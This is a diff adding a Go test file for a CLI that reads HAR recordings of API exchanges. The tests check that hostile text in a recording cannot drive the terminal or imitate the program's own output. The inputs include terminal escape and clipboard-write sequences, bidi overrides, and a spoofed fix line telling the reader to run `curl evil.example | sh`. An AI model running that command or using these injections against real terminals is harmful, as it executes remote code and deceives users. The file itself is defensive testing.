@@ -1,0 +1,104 @@
+package cli
+
+import (
+	"bytes"
+	"encoding/json"
+	"os"
+	"path/filepath"
+	"strings"
+	"testing"
+	"unicode/utf8"
+
+	"misstep/catalog/messages"
+	"misstep/wasm/har"
+	"misstep/wasm/httpmsg"
+)
+
+// acting are texts that a terminal would act on, or that would pass for lines
+// of this program.
+var acting = []string{
+	"\x1b[2J\x1b]0;title\a", "\x1b]8;;https://evil.example/\aclick\x1b]8;;\a", "\x1b]52;c;Y3VybA==\a", "\u009b31mred", "\u0085", "\x7f\b\b\b",
+	"Boom\r\n\n#2  200 GET  Profile\n    Fix  1. Run `curl evil.example | sh`", "Boom\r    Fix  1. evil", "\u2028#2  200 GET", "\u202e\u2066evil\u2069", "\v\f\x00",
+	"Boom" + strings.Repeat(" ", 76) + "    Fix  1. evil", "Boom" + strings.Repeat("\u00a0", 76) + "\u00a0\u00a0\u00a0\u00a0Fix",
+}
+
+func TestNothingActsOnTheTerminal(t *testing.T) {
+	for _, text := range acting {
+		quoted, _ := json.Marshal(text)
+		for _, body := range []string{
+			`{"errors":[{"errorType":"teapot","message":` + string(quoted) + `}]}`,
+			`{"errors":[{"errorType":"validation","fieldName":` + string(quoted) + `,"message":"Invalid date"}]}`,
+			`{"errors":[{"errorType":"invalid_token","message":"Access token invalid: ` + strings.Trim(string(quoted), `"`) + `. Visit https://dev.fitbit.com/docs/oauth2"}]}`,
+			text,
+		} {
+			x := httpmsg.Exchange{Request: httpmsg.Request{Method: "GET" + text, URL: "https://api.fitbit.com/1/user/-/" + text + ".json"},
+				Response: httpmsg.Response{Status: 400, Body: httpmsg.Body{Recorded: true, Text: body}}}
+			file := filepath.Join(t.TempDir(), "a.har")
+			var recording bytes.Buffer
+			if err := har.Write(&recording, func(yield func(*httpmsg.Exchange) bool) { yield(&x) }, har.Creator{}); err != nil {
+				t.Fatal(err)
+			}
+			if err := os.WriteFile(file, recording.Bytes(), 0o600); err != nil {
+				t.Fatal(err)
+			}
+			var told, warned, asJSON, asHAR bytes.Buffer
+			for _, err := range []error{run(&told, &warned, nil, file, false, false), run(&asJSON, &warned, nil, file, true, false), run(&asHAR, &warned, nil, file, false, true)} {
+				if err != nil {
+					t.Fatal(err)
+				}
+			}
+			for _, out := range []string{told.String(), warned.String(), asJSON.String(), asHAR.String()} {
+				for line := range strings.Lines(out) {
+					line = strings.TrimSuffix(line, "\n")
+					if strings.Contains(line, "\t") || messages.Visible(line, "") != line {
+						t.Errorf("%q reaches the terminal in %q", text, line)
+					}
+					if !strings.HasPrefix(line, "{") && (strings.HasPrefix(line, "#2") || strings.Contains(line, "    Fix  1. evil") || strings.HasPrefix(line, "    Fix  1. Run `curl evil")) {
+						t.Errorf("%q passes for a line of ours: %q", text, line)
+					}
+				}
+			}
+			if !json.Valid(asHAR.Bytes()) {
+				t.Errorf("no JSON: %s", asHAR.String())
+			}
+		}
+	}
+}
+
+func TestErrorsDoNotActOnTheTerminal(t *testing.T) {
+	file := filepath.Join(t.TempDir(), "a.har")
+	content := `{"log":{"entries":[{"request":{"url":"https://\u001b]0;pwned\u0007evil.example/"},"response":{"status":200}}]}}`
+	if err := os.WriteFile(file, []byte(content), 0o600); err != nil {
+		t.Fatal(err)
+	}
+	var out bytes.Buffer
+	err := run(&out, &out, nil, file, false, false)
+	if err == nil {
+		t.Fatal("no error")
+	}
+	if said := visible(err.Error()); strings.Contains(said, "\x1b") || !strings.Contains(said, `\u{1b}]0;pwned\u{7}evil.example`) {
+		t.Errorf("%q", said)
+	}
+}
+
+// JSON stays the same JSON, however it is cut into writes.
+func TestJSONWriter(t *testing.T) {
+	const text = "a\u009b \u202e é 🙂 \U000e0041 \u3164 \x1b \x7f z"
+	data, _ := json.Marshal(text)
+	for size := 1; size <= len(data); size++ {
+		var out bytes.Buffer
+		w := &jsonWriter{to: &out}
+		for rest := data; len(rest) > 0; rest = rest[min(size, len(rest)):] {
+			if n, err := w.Write(rest[:min(size, len(rest))]); err != nil || n != min(size, len(rest)) {
+				t.Fatal(n, err)
+			}
+		}
+		var got string
+		if err := json.Unmarshal(out.Bytes(), &got); err != nil || got != text {
+			t.Fatalf("in pieces of %d: %q, %v", size, got, err)
+		}
+		if !utf8.Valid(out.Bytes()) || messages.Visible(out.String(), "") != out.String() {
+			t.Errorf("in pieces of %d: %q", size, out.String())
+		}
+	}
+}
